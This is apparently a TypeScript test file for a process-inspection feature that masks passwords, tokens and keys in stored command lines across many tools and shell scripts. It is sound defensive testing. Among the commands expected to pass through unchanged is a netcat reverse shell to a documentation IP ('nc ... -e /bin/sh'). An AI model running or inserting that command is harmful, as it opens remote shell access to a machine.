/** Stored command lines: secrets are masked, everything else is kept. */
import fc from 'fast-check';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { commandText, LONGEST_COMMAND, programText } from '../../../src/features/inspection/command-line.ts';

/** A text that no line below contains by chance. */
const secret = fc
  .string({ minLength: 6, maxLength: 30, unit: 'grapheme-ascii' })
  .filter((text) => !/^[-\s]/.test(text) && text.trim().length >= 6 && !/^\W*$/.test(text))
  .map((text) => `Q7${text}`);
/** In a form that can be part of a word of a shell script. */
const plainSecret = secret.map((text) => text.replace(/[\s"'\\;,&@/]/g, '_'));

const holding = (s: string): readonly (readonly string[])[] => [
  ['tool', `--password=${s}`, 'x'],
  ['tool', '--password', s, 'x'],
  ['tool', `--db-pass=${s}`],
  ['tool', `-password=${s}`],
  ['tool', '--api-key', s],
  ['tool', `--access-token=${s}`],
  ['env', `DB_PASSWORD=${s}`, 'tool'],
  ['env', `TOKEN=${s}`, 'tool'],
  ['env', `AWS_SECRET_ACCESS_KEY=${s}`, 'tool'],
  ['env', `PGPASSWORD=${s}`, 'psql'],
  ['mysql', '-u', 'root', `-p${s}`, 'shop'],
  ['mysql', '-u', 'zip', `-p${s}`, 'shop'],
  ['/usr/bin/sudo', '/usr/bin/mysqldump', `-p${s}`, 'shop'],
  ['sshpass', '-p', s, 'ssh', 'host'],
  ['sshpass', `-p${s}`, 'ssh', 'host'],
  ['curl', '-u', `ann:${s}`, 'https://example.org/'],
  ['curl', `--user=ann:${s}`, 'https://example.org/'],
  ['curl', '-H', `Authorization: Bearer ${s}`, 'https://example.org/'],
  ['curl', '-H', `X-Api-Key: ${s}`, 'https://example.org/'],
  ['redis-cli', '-a', s, 'ping'],
  ['ldapsearch', '-x', '-w', s],
  ['openssl', 'enc', '-pass', `pass:${s}`],
  ['7z', 'x', `-p${s}`, 'a.7z'],
  ['docker', 'login', '-u', 'ann', '-p', s],
  ['smbclient', '-U', `ann%${s}`, '//host/share'],
  ['snmpwalk', '-v2c', '-c', s, 'host'],
  ['htpasswd', '-b', '/etc/web/users', 'ann', s],
  ['htpasswd', '-bc', '/etc/web/users', 'ann', s],
  ['htpasswd', '-nbB', 'ann', s],
  ['mysql', '-uroot', `-p${s}`, 'shop'],
  ['mysqlslap', '-uroot', `-p${s}`],
  ['/opt/db/client', '-uroot', `-p${s}`],
  ['/opt/db/client', '-u', 'root', `-p${s}`],
  ['mysql', `-ABp${s}`, 'shop'],
  ['mysqladmin', '-uroot', 'password', s],
  ['curl', '-su', `ann:${s}`, 'https://example.org/'],
  ['curl', '-sSLku', `ann:${s}`, 'https://example.org/'],
  ['curl', `-suann:${s}`, 'https://example.org/'],
  ['http', '-a', `ann:${s}`, 'https://example.org/'],
  ['tool', '--user', `ann:${s}`],
  ['tool', `--proxy-user=ann:${s}`],
  ['lftp', '-u', `ann,${s}`, 'host'],
  ['ldapsearch', '-xw', s],
  ['unzip', '-oP', s, 'a.zip'],
  ['mosquitto_pub', '-u', 'ann', '-P', s],
  ['xfreerdp', '/u:ann', `/p:${s}`, '/v:host'],
  ['nmcli', 'dev', 'wifi', 'connect', 'home', 'password', s],
  ['wpa_passphrase', 'home', s],
  ['aws', 'configure', 'set', 'aws_secret_access_key', s],
  ['kubectl', 'create', 'secret', 'generic', 'db', `--from-literal=pw=${s}`],
  ['tool', '--pw', s],
  ['tool', '-pw', s],
  ['vault', 'login', s],
];

test('a command line crafted to be slow to parse is processed quickly', () => {
  // With a backtracking search these took minutes.
  const many = 'echo '.repeat(2_000) + '|'.repeat(8_000) + 'x'.repeat(8_000);
  for (const text of [many, `${many} sudo x`, 'curl '.repeat(4_000), `a=${'b:'.repeat(4_000)}`])
    assert.ok(commandText([text]).length <= LONGEST_COMMAND + 1);
});

const inScripts = (s: string): readonly string[] => [
  `mysql -p${s} shop`,
  `mysql '-p${s}' shop`,
  `mysql -p'${s}' shop`,
  `export TOKEN=${s}; run`,
  `tool --password ${s} --verbose`,
  `tool --password="${s}"`,
  `sh -c 'sshpass -p ${s} ssh host'`,
  `curl -u ann:${s} http://example.org`,
  `curl -H "Authorization: Bearer ${s}" http://example.org`,
  `rsync ann:${s}@example.org`,
  `psql postgres://ann:${s}@db/shop`,
  `git clone https://ann:x@${s}@example.org/a.git`,
  `git clone https://${s}@example.org/a.git`,
  `htpasswd -b /etc/web/users ann ${s}; reload`,
  `mysql -uroot -p${s} -e 'select 1'`,
  `curl -sku ann:${s} http://example.org`,
  `echo ${s} | sudo -S id`,
  `printf %s ${s} | docker login --password-stdin`,
  `set -x DB_TOKEN ${s}`,
];

test('a secret in its own argument is masked, whatever characters it has', () => {
  fc.assert(
    fc.property(secret, (s) => {
      for (const args of holding(s)) assert.not.ok(commandText(args).includes(s), JSON.stringify(args));
    }),
    { numRuns: 300 },
  );
});

test('a secret within a script is masked: quoted, unquoted or in a nested shell', () => {
  fc.assert(
    fc.property(plainSecret, (s) => {
      for (const script of inScripts(s))
        assert.not.ok(commandText(['bash', '-c', script]).includes(s), script);
    }),
    { numRuns: 300 },
  );
});

test('blobs are masked: base64, hexadecimal, tokens of known services', () => {
  const bytes = fc.uint8Array({ minLength: 36, maxLength: 64 }).filter((some) => new Set(some).size > 16);
  fc.assert(
    fc.property(bytes, fc.constantFrom('base64', 'base64url', 'hex'), (some, encoding) => {
      const blob = Buffer.from(some).toString(encoding as BufferEncoding);
      if (blob.startsWith('/')) return;
      for (const args of [
        ['tool', blob],
        ['tool', `--data=${blob}`],
        ['sh', '-c', `tool ${blob} | cat`],
      ])
        assert.not.ok(commandText(args).includes(blob), JSON.stringify(args));
    }),
  );
  // Without a digit, as about one in 3,000 of 36 random bytes.
  const noDigit = 'AQADhJEl+sOCBgduwAIDlf+HnhAClsqK+PuMZgHqwRgGAoKE';
  assert.not.ok(commandText(['tool', `--data=${noDigit}`]).includes(noDigit));
  assert.not.match(commandText(['x', 'ghp_0123456789abcdefghij']), /ghp_/);
});

test('text that is not a secret is unchanged', () => {
  for (const args of [
    ['python3', '-m', 'http.server', '8000'],
    ['/usr/sbin/sshd', '-D', '-p', '2222'],
    ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'],
    ['tar', '-xpf', 'backup.tar', '-C', '/srv/www'],
    ['mkdir', '-p', '/srv/data'],
    ['git', 'commit', '--author=ann', '-m', 'fix'],
    ['tool', '--password-file=/run/secrets/db'],
    ['bash', '-i'],
    ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'],
    ['node', '/srv/app/server.js', '--port', '8080'],
    ['rsync', '-a', 'ann@host:/srv/', '/backup/'],
    ['sudo', '-u', 'www-data', 'id'],
    ['ssh', '-p', '2222', 'ann@host'],
    ['git', 'clone', 'ssh://git@example.org/a.git'],
    ['passwd', 'root'],
    ['useradd', '-m', 'ann'],
    ['curl', '-sSL', 'https://example.org/x.sh'],
    ['chown', '-R', 'ann:users', '/srv'],
    ['java', 'AbstractSingletonProxyFactoryBeanPostProcessor'],
    ['node', 'packages/server/src/features/WebSocketConnections/index.js'],
  ])
    assert.is(commandText(args), args.map((one) => (/\s/.test(one) ? `'${one}'` : one)).join(' '));
});

test('the text is bounded, and ends in an ellipsis when it was cut', () => {
  fc.assert(
    fc.property(
      fc.array(fc.string({ unit: 'binary', maxLength: 400 }), { maxLength: 40 }),
      fc.boolean(),
      (args, cut) => {
        const text = commandText(args, cut);
        assert.ok(text.length <= LONGEST_COMMAND + 1);
        if (cut) assert.match(text, /…$/);
      },
    ),
  );
});

test('a program is named by its executable, an interpreter by its script or module too', () => {
  const of = (line: string, executable = '/usr/bin/python3.11') => programText(executable, line.split(' '));
  assert.is(of('python3 -m http.server 8000 --bind 0.0.0.0'), 'python3 -m http.server');
  assert.is(of('/usr/bin/python3 -u -W ignore /srv/app.py --token x'), 'python3 /srv/app.py');
  assert.is(of('python3 -c import_os'), 'python3 -c …');
  assert.is(of('kworker/0:1 -m http.server'), 'python3.11 -m http.server');
  assert.is(of('python3'), 'python3');
  assert.is(of('node --require ./x.js server.js 80', '/usr/bin/node'), 'node server.js');
  assert.is(of('-bash', '/usr/bin/bash'), 'bash');
  assert.is(of('sh -c id', '/usr/bin/dash'), 'dash -c …');
  assert.is(of('java -cp a.jar -jar app.jar', '/usr/lib/jvm/bin/java'), 'java -jar app.jar');
  assert.is(of('nginx -g x', '/usr/sbin/nginx'), 'nginx');
  assert.is(of('python3 https://ann:hunter2@host/x.py'), 'python3 https://***@host/x.py');
});

test.run();
